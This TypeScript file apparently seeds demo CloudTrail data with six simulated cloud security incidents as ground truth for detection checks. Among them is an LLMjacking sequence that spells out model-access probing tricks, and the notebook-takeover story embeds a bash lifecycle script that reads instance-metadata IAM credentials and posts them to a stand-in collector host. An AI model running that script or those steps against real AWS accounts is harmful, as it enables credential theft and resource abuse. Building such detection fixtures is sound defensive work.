/**
 * Security incidents injected into the demo data at seeded times, each a short story
 * told in CloudTrail events: LLMjacking, logging tampering, a public training-data bucket,
 * a SageMaker notebook takeover, a GPU burst in an unused region and a stopped trail.
 */

import { POC_USER, PROD, RESEARCH, SHARED, TRAIL_ARN, bucket, cliUA, botoUA, BROWSERS, type Model } from './catalog.js';
import { getCallerIdentity, bedrockControl, bedrockInvoke, cloudtrailCall, consoleLogin, ec2Describe, ec2Run, s3Data, s3Mgmt, smCall, guardrailId, guardrailArn } from './services.js';
import { iamUserCaller, person, personCaller, isoSeconds, type Caller, type Emitter, type Rec } from './records.js';
import { hashChars, type Rng } from './rng.js';

/** What an injected incident was, for the caller to check detections against. */
export interface IncidentInfo {
  name: string;
  description: string;
  principalArn: string;
  startTime: string;
}

/** An incident's records with their times (ms). */
export interface Incident {
  info: IncidentInfo;
  events: Array<{ t: number; rec: Rec }>;
}

const MIN = 60_000;
const HOUR = 60 * MIN;

/** Collects timed records for one incident. */
class Story {
  readonly events: Array<{ t: number; rec: Rec }> = [];
  constructor(readonly e: Emitter, public t: number) {}
  /** Advance the clock by ms (with up to `jitter` extra) and record `make()` at the new time. */
  at(ms: number, make: (t: number) => Rec, jitter = 0): void {
    this.t += ms + (jitter ? this.e.rng.int(jitter) : 0);
    this.events.push({ t: this.t, rec: make(this.t) });
  }
}

function ip(rng: Rng, prefix: string): string {
  return `${prefix}${rng.range(2, 250)}`;
}

const ATTACKER_BOTO = 'Boto3/1.28.57 md/Botocore#1.31.57 ua/2.0 os/windows#10 md/arch#amd64 lang/python#3.11.5 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.57';

function fakeModel(id: string): Model {
  return { id, regions: [], kind: 'chat' };
}

/** 1. LLMjacking with a leaked long-term key. */
export function llmjacking(e: Emitter, start: number, burst: number, timeScale: number): Incident {
  const rng = e.rng;
  const reconIp = ip(rng, '198.18.23.');
  const proxyIp = ip(rng, '198.19.140.');
  const acct = POC_USER.account;
  const boto = iamUserCaller(acct, POC_USER.name, reconIp, () => ATTACKER_BOTO);
  const browser = iamUserCaller(acct, POC_USER.name, reconIp, () => BROWSERS.windows!);
  const s = new Story(e, start);
  const regions = ['us-east-1', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-northeast-1'];
  const targets = ['anthropic.claude-3-5-sonnet-20240620-v1:0', 'anthropic.claude-3-opus-20240229-v1:0', 'anthropic.claude-3-sonnet-20240229-v1:0'];

  s.at(0, (t) => getCallerIdentity(e, t, boto, acct, 'us-east-1'));
  for (const r of regions) s.at(2000, (t) => bedrockControl(e, t, boto, acct, r, 'ListFoundationModels', null, null, true), 3000);
  s.at(4000, (t) => bedrockControl(e, t, boto, acct, 'us-east-1', 'GetModelInvocationLoggingConfiguration', null, null, true));
  s.at(1500, (t) => bedrockControl(e, t, boto, acct, 'us-west-2', 'GetModelInvocationLoggingConfiguration', null, null, true));
  // Probing with a deliberately invalid body: ValidationException means "enabled", AccessDenied "not enabled".
  for (const r of ['us-east-1', 'us-west-2', 'eu-west-1']) {
    for (const id of targets) {
      const enabled = id === targets[0] && r !== 'eu-west-1';
      s.at(1200, (t) => bedrockInvoke(e, t, boto, acct, r, 'InvokeModel', fakeModel(id), enabled
        ? [['ValidationException', 'Malformed input request: #/max_tokens: -1 is not greater or equal to 1, please reformat your input and try again.', 1]]
        : [['AccessDenied', "You don't have access to the model with the specified model ID.", 1]]), 1500);
    }
  }
  // Enabling access to the models it wants through console-only APIs, with a browser user agent.
  for (const id of targets.slice(1)) {
    s.at(20_000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'GetFoundationModelAvailability', { modelId: id }, null, true), 10_000);
    s.at(1500, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'ListFoundationModelAgreementOffers', { modelId: id, offerType: 'PUBLIC' }, null, true));
  }
  s.at(3000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'GetUseCaseForModelAccess', null, null, true, ['ResourceNotFoundException', 'Model use case details have not been submitted for this account.']));
  s.at(9000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'PutUseCaseForModelAccess', { formData: Buffer.from(Buffer.from(JSON.stringify({ companyName: 'Nexora Labs', companyWebsite: 'https://nexora-labs.example', intendedUsers: '0', industryOption: 'Education', otherIndustryOption: '', useCases: 'chatbot' })).toString('base64')).toString('base64') }, null, false));
  for (const id of targets.slice(1)) {
    s.at(2000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'CreateFoundationModelAgreement', { offerToken: 'HIDDEN_DUE_TO_SECURITY_REASONS', modelId: id }, { modelId: id }, false), 1000);
    s.at(1000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'PutFoundationModelEntitlement', { modelId: id }, { status: 'PENDING' }, false));
  }
  for (let i = 0; i < 6; i++) {
    s.at(10_000, (t) => bedrockControl(e, t, browser, acct, 'us-east-1', 'GetFoundationModelAvailability', { modelId: targets[1] }, null, true), 500);
  }
  // The reverse proxy takes over: a burst of invocations across models and regions.
  const proxy = iamUserCaller(acct, POC_USER.name, proxyIp, () => (rng.chance(0.6) ? 'Python/3.11 aiohttp/3.9.5' : 'axios/1.7.4'));
  const span = 75 * MIN * timeScale;
  let t = s.t + 4 * MIN * timeScale;
  const burstStart = t;
  for (let i = 0; i < burst; i++) {
    // Density grows as the key gets shared more widely.
    const frac = Math.sqrt((i + 1) / burst);
    const next = burstStart + Math.floor(frac * span) + rng.int(900);
    t = Math.max(t, next);
    const r = rng.chance(0.6) ? 'us-east-1' : rng.chance(0.6) ? 'us-west-2' : 'eu-west-1';
    const id = rng.chance(0.55) ? targets[0]! : rng.chance(0.7) ? targets[1]! : targets[2]!;
    const denied = r === 'eu-west-1' && id !== targets[0];
    const at = t;
    s.events.push({
      t: at,
      rec: bedrockInvoke(e, at, proxy, acct, r, rng.chance(0.7) ? 'InvokeModelWithResponseStream' : 'InvokeModel', fakeModel(id), denied
        ? [['AccessDenied', "You don't have access to the model with the specified model ID.", 1]]
        : [['ThrottlingException', 'Too many requests, please wait before trying again.', 0.03]]),
    });
  }
  return {
    info: {
      name: 'llmjacking',
      description: `Leaked access key of IAM user ${POC_USER.name} used from ${reconIp}: credential check, Bedrock model enumeration in ${regions.length} regions, logging-configuration check, InvokeModel probes (ValidationException/AccessDenied), console-only model-access APIs (PutUseCaseForModelAccess, CreateFoundationModelAgreement, PutFoundationModelEntitlement), then ${burst} invocations through a proxy at ${proxyIp}.`,
      principalArn: `arn:aws:iam::${acct}:user/${POC_USER.name}`,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** 2. Invocation logging deleted and a guardrail removed by a person. */
export function loggingTamper(e: Emitter, start: number): Incident {
  const p = person('farid.haddad');
  const c = personCaller(p, PROD.id, start, 'console', 'AdministratorAccess');
  const acct = PROD.id;
  const r = 'us-east-1';
  const s = new Story(e, start);
  s.at(0, (t) => consoleLogin(e, t, c, acct, false, true));
  s.at(45_000, (t) => bedrockControl(e, t, c, acct, r, 'GetModelInvocationLoggingConfiguration', null, null, true), 20_000);
  s.at(30_000, (t) => bedrockControl(e, t, c, acct, r, 'DeleteModelInvocationLoggingConfiguration', null, null, false), 30_000);
  s.at(60_000, (t) => bedrockControl(e, t, c, acct, r, 'ListGuardrails', { maxResults: 50 }, null, true), 30_000);
  s.at(15_000, (t) => bedrockControl(e, t, c, acct, r, 'GetGuardrail', { guardrailIdentifier: guardrailId(acct), guardrailVersion: 'DRAFT' }, null, true));
  s.at(40_000, (t) => bedrockControl(e, t, c, acct, r, 'DeleteGuardrail', { guardrailIdentifier: guardrailArn(acct, r) }, null, false), 20_000);
  return {
    info: {
      name: 'bedrock-logging-disabled',
      description: `farid.haddad (AdministratorAccess) signed in to the console, deleted the Bedrock model invocation logging configuration in ${r} and deleted guardrail ${guardrailId(acct)}.`,
      principalArn: c.arn,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** 3. A training-data bucket made public, then read in bulk from outside. */
export function publicBucket(e: Emitter, start: number, reads: number, timeScale: number): Incident {
  const rng = e.rng;
  const p = person('alice.nguyen');
  const b = bucket('acme-ml-training-data');
  const c = personCaller(p, b.account, start, 'cli', 'MLEngineer');
  const host = `${b.name}.s3.${b.region}.amazonaws.com`;
  const s = new Story(e, start);
  s.at(0, (t) => s3Mgmt(e, t, c, b, 'GetBucketPolicy', { bucketName: b.name, Host: host, policy: '' }, true, ['NoSuchBucketPolicy', 'The bucket policy does not exist']));
  s.at(20_000, (t) => s3Mgmt(e, t, c, b, 'GetBucketPublicAccessBlock', { bucketName: b.name, Host: host, publicAccessBlock: '' }, true), 10_000);
  s.at(40_000, (t) => s3Mgmt(e, t, c, b, 'DeleteBucketPublicAccessBlock', { bucketName: b.name, Host: host, publicAccessBlock: '' }, false), 20_000);
  const policy = {
    Version: '2012-10-17',
    Statement: [{ Sid: 'ShareWithVendor', Effect: 'Allow', Principal: '*', Action: ['s3:GetObject', 's3:ListBucket'], Resource: [`arn:aws:s3:::${b.name}`, `arn:aws:s3:::${b.name}/*`] }],
  };
  s.at(50_000, (t) => s3Mgmt(e, t, c, b, 'PutBucketPolicy', { bucketPolicy: policy, bucketName: b.name, Host: host, policy: '' }, false), 20_000);
  const policyTime = s.t;
  // Someone outside finds it hours later and pulls the corpus anonymously.
  const ips = [ip(rng, '198.18.200.'), ip(rng, '198.18.201.')];
  const anon = (addr: string): Caller => ({
    identity: { type: 'AWSAccount', principalId: '', accountId: 'anonymous' },
    ip: addr,
    ua: () => (addr === ips[0] ? 'python-requests/2.32.3' : 'Wget/1.21.4'),
    arn: 'anonymous',
    console: false,
    viaService: false,
  });
  let t = policyTime + Math.floor((2 * HOUR + rng.int(3 * HOUR)) * timeScale);
  const exfilStart = t;
  const list = s3Data(e, t, anon(ips[0]!), b, 'ListObjects', { noErrors: true });
  s.events.push({ t, rec: stripSigning(list) });
  for (let i = 0; i < reads; i++) {
    t += 500 + rng.int(Math.max(1000, Math.floor(40_000 * timeScale)));
    const at = t;
    const key = `${rng.pick(b.prefixes)}part-${String(i).padStart(5, '0')}${rng.pick(b.exts)}`;
    s.events.push({ t: at, rec: stripSigning(s3Data(e, at, anon(rng.chance(0.8) ? ips[0]! : ips[1]!), b, 'GetObject', { key, noErrors: true })) });
  }
  return {
    info: {
      name: 'training-data-public',
      description: `alice.nguyen removed the public access block on s3://${b.name} and attached a bucket policy granting Principal "*" s3:GetObject and s3:ListBucket; from ${isoSeconds(exfilStart)} ${reads} anonymous GetObject requests came from ${ips.join(' and ')}.`,
      principalArn: c.arn,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** Anonymous requests are not signed: no SignatureVersion or AuthenticationMethod. */
function stripSigning(r: Rec): Rec {
  const aed = r.additionalEventData as Rec;
  delete aed.SignatureVersion;
  delete aed.AuthenticationMethod;
  return r;
}

/** 4. A notebook presigned URL from an unusual address, then a lifecycle script. */
export function notebookTakeover(e: Emitter, start: number): Incident {
  const rng = e.rng;
  const p = person('dev.patel');
  const addr = ip(rng, '198.19.44.');
  const c = personCaller(p, RESEARCH.id, start, 'cli', 'DataScientist', addr);
  c.ua = (_src, name) => cliUA(0, 'linux', `sagemaker.${name.replace(/([a-z0-9])([A-Z])/g, '$1-$2').toLowerCase()}`);
  const acct = RESEARCH.id;
  const r = 'us-east-1';
  const nb = 'ds-sandbox';
  const lc = 'ds-sandbox-refresh';
  const script = '#!/bin/bash\nset -e\nTOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 300")\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -s -X POST --data-binary @- https://collector.invalid/c\n';
  const s = new Story(e, start);
  s.at(0, (t) => getCallerIdentity(e, t, c, acct, r));
  s.at(8000, (t) => smCall(e, t, c, acct, r, 'ListNotebookInstances'), 5000);
  s.at(6000, (t) => smCall(e, t, c, acct, r, 'DescribeNotebookInstance', nb), 5000);
  s.at(20_000, (t) => smCall(e, t, c, acct, r, 'CreatePresignedNotebookInstanceUrl', nb), 10_000);
  s.at(4 * MIN, (t) => e.rec(t, c, {
    src: 'sagemaker.amazonaws.com', name: 'CreateNotebookInstanceLifecycleConfig', region: r, account: acct,
    rp: { notebookInstanceLifecycleConfigName: lc, onStart: [{ content: Buffer.from(script).toString('base64') }] },
    re: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:${r}:${acct}:notebook-instance-lifecycle-config/${lc}` },
    ro: false,
  }), MIN);
  s.at(30_000, (t) => e.rec(t, c, { src: 'sagemaker.amazonaws.com', name: 'StopNotebookInstance', region: r, account: acct, rp: { notebookInstanceName: nb }, ro: false }));
  s.at(5 * MIN, (t) => e.rec(t, c, { src: 'sagemaker.amazonaws.com', name: 'UpdateNotebookInstance', region: r, account: acct, rp: { notebookInstanceName: nb, lifecycleConfigName: lc }, ro: false }), MIN);
  s.at(20_000, (t) => e.rec(t, c, { src: 'sagemaker.amazonaws.com', name: 'StartNotebookInstance', region: r, account: acct, rp: { notebookInstanceName: nb }, ro: false }));
  return {
    info: {
      name: 'sagemaker-notebook-takeover',
      description: `dev.patel's DataScientist session was used from ${addr} to create a presigned URL for notebook ${nb}, then to attach a new on-start lifecycle configuration (${lc}) that reads instance credentials, restarting the notebook.`,
      principalArn: c.arn,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** 5. A burst of GPU RunInstances in a region the team never uses. */
export function gpuBurst(e: Emitter, start: number, launches: number, region: string): Incident {
  const rng = e.rng;
  const addr = ip(rng, '198.18.9.');
  const acct = PROD.id;
  const c = iamUserCaller(acct, 'bob.okafor', addr, () => botoUA(3, 'linux'));
  const s = new Story(e, start);
  const keyName = 'k' + hashChars(`key:${start}`, 8, 'abcdefghijklmnopqrstuvwxyz0123456789');
  const sgName = 'default-' + hashChars(`sg:${start}`, 6, 'abcdefghijklmnopqrstuvwxyz0123456789');
  s.at(0, (t) => getCallerIdentity(e, t, c, acct, 'us-east-1'));
  s.at(3000, (t) => e.rec(t, c, { src: 'ec2.amazonaws.com', name: 'DescribeRegions', region: 'us-east-1', account: acct, rp: { regionSet: {}, allRegions: true }, ro: true }), 2000);
  s.at(9000, (t) => e.rec(t, c, { src: 'ec2.amazonaws.com', name: 'DescribeInstanceTypeOfferings', region, account: acct, rp: { locationType: 'availability-zone', filterSet: { items: [{ name: 'instance-type', valueSet: { items: [{ value: 'p4d.24xlarge' }, { value: 'g5.12xlarge' }] } }] } }, ro: true }), 3000);
  s.at(4000, (t) => e.rec(t, c, { src: 'ec2.amazonaws.com', name: 'CreateKeyPair', region, account: acct, rp: { keyName, keyType: 'rsa', keyFormat: 'pem' }, re: { requestId: rng.uuid(), keyName, keyFingerprint: rng.hex(40).replace(/(..)(?!$)/g, '$1:'), keyPairId: 'key-0' + rng.hex(16), keyMaterial: '<sensitiveDataRemoved>' }, ro: false }));
  const sgId = 'sg-0' + rng.hex(16);
  s.at(3000, (t) => e.rec(t, c, { src: 'ec2.amazonaws.com', name: 'CreateSecurityGroup', region, account: acct, rp: { groupName: sgName, groupDescription: sgName }, re: { requestId: rng.uuid(), _return: true, groupId: sgId }, ro: false }));
  s.at(2000, (t) => e.rec(t, c, {
    src: 'ec2.amazonaws.com', name: 'AuthorizeSecurityGroupIngress', region, account: acct,
    rp: { groupId: sgId, ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22, groups: {}, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, ipv6Ranges: {}, prefixListIds: {} }] } },
    re: { requestId: rng.uuid(), _return: true }, ro: false,
  }));
  const types = ['p4d.24xlarge', 'p3.16xlarge', 'g5.12xlarge', 'g4dn.12xlarge', 'g5.48xlarge'];
  for (let i = 0; i < launches; i++) {
    const type = rng.pick(types);
    const limited = type !== 'g4dn.12xlarge' && rng.chance(0.45);
    s.at(5000, (t) => ec2Run(e, t, c, acct, region, type, limited ? rng.range(2, 8) : rng.range(1, 4), {
      keyName,
      name: 'worker',
      err: limited ? ['Client.VcpuLimitExceeded', 'You have requested more vCPU capacity than your current vCPU limit of 64 allows for the instance bucket that the specified instance type belongs to. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit.'] : null,
    }), 20_000);
    if (i % 4 === 3) s.at(3000, (t) => ec2Describe(e, t, c, acct, region), 3000);
  }
  return {
    info: {
      name: 'gpu-burst-unusual-region',
      description: `Long-term key of IAM user bob.okafor used from ${addr} to create a key pair, open SSH to the world and launch ${launches} GPU RunInstances requests in ${region}, a region the organisation does not use, several failing on vCPU limits.`,
      principalArn: c.arn,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** 6. The organisation trail stopped, and restarted by the security team later. */
export function trailStopped(e: Emitter, start: number, timeScale: number): Incident {
  const rng = e.rng;
  const g = person('grace.lindqvist');
  const addr = ip(rng, '198.19.201.');
  const c = personCaller(g, SHARED.id, start, 'cli', 'AdministratorAccess', addr);
  c.ua = (_src, name) => cliUA(1, 'windows', `cloudtrail.${name.replace(/([a-z0-9])([A-Z])/g, '$1-$2').toLowerCase()}`);
  const acct = SHARED.id;
  const s = new Story(e, start);
  s.at(0, (t) => getCallerIdentity(e, t, c, acct, 'us-east-1'));
  s.at(10_000, (t) => cloudtrailCall(e, t, c, acct, 'us-east-1', 'DescribeTrails'), 5000);
  s.at(8000, (t) => cloudtrailCall(e, t, c, acct, 'us-east-1', 'GetTrailStatus'), 5000);
  s.at(15_000, (t) => e.rec(t, c, { src: 'cloudtrail.amazonaws.com', name: 'StopLogging', region: 'us-east-1', account: acct, rp: { name: TRAIL_ARN }, ro: false }), 10_000);
  const erin = person('erin.kowalski');
  const back = Math.floor((25 * MIN + rng.int(20 * MIN)) * timeScale);
  const responder = personCaller(erin, SHARED.id, s.t + back, 'cli', 'AdministratorAccess');
  s.at(back, (t) => e.rec(t, responder, { src: 'cloudtrail.amazonaws.com', name: 'LookupEvents', region: 'us-east-1', account: acct, rp: { lookupAttributes: [{ attributeKey: 'EventName', attributeValue: 'StopLogging' }], maxResults: 50 }, ro: true }));
  s.at(90_000, (t) => e.rec(t, responder, { src: 'cloudtrail.amazonaws.com', name: 'StartLogging', region: 'us-east-1', account: acct, rp: { name: TRAIL_ARN }, ro: false }), 60_000);
  return {
    info: {
      name: 'cloudtrail-stopped',
      description: `grace.lindqvist's AdministratorAccess session, from ${addr}, called StopLogging on the organisation trail; erin.kowalski restarted it about ${Math.round(back / MIN)} minutes later.`,
      principalArn: c.arn,
      startTime: isoSeconds(start),
    },
    events: s.events,
  };
}

/** Places every incident in its own part of [start, end) and returns them time-sorted. */
export function buildIncidents(e: Emitter, start: number, end: number, events: number): Incident[] {
  const rng = e.rng;
  const span = end - start;
  const seg = span / 6;
  // Stories are hours long; in short ranges they are compressed so they still fit.
  const timeScale = Math.min(1, span / (6 * 8 * HOUR));
  const order = [0, 1, 2, 3, 4, 5];
  for (let i = order.length - 1; i > 0; i--) {
    const j = rng.int(i + 1);
    [order[i], order[j]] = [order[j]!, order[i]!];
  }
  const at = (k: number): number => Math.floor(start + seg * order[k]! + seg * (0.1 + 0.45 * rng.next()));
  const clamp = (n: number, lo: number, hi: number): number => Math.max(lo, Math.min(hi, Math.round(n)));
  const list = [
    llmjacking(e, at(0), clamp(events * 0.0015, 20, 1500), timeScale),
    loggingTamper(e, at(1)),
    publicBucket(e, at(2), clamp(events * 0.0008, 15, 800), timeScale),
    notebookTakeover(e, at(3)),
    gpuBurst(e, at(4), clamp(events * 0.00002, 6, 24), rng.chance(0.5) ? 'sa-east-1' : 'ap-southeast-2'),
    trailStopped(e, at(5), timeScale),
  ];
  for (const inc of list) {
    for (const ev of inc.events) {
      if (ev.t >= end) {
        ev.t = end - 1000;
        ev.rec.eventTime = isoSeconds(ev.t);
      }
    }
  }
  return list;
}
